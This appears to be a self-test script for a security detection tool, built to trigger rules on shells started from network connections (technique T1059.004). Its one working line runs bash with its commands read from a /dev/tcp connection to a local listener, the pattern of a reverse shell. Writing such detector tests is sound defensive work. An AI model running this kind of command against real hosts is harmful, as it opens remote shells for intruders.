#!/bin/sh
# rule: Standard input tied to a network connection, then a shell
# rule: Shell or interpreter started on a network connection
# technique: T1059.004
# case: bash has its commands from a connection, and writes elsewhere
# needs: bash, python3

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/listener.inc"
bash -c "bash < /dev/tcp/127.0.0.1/$(cat port); exit 0"
wait
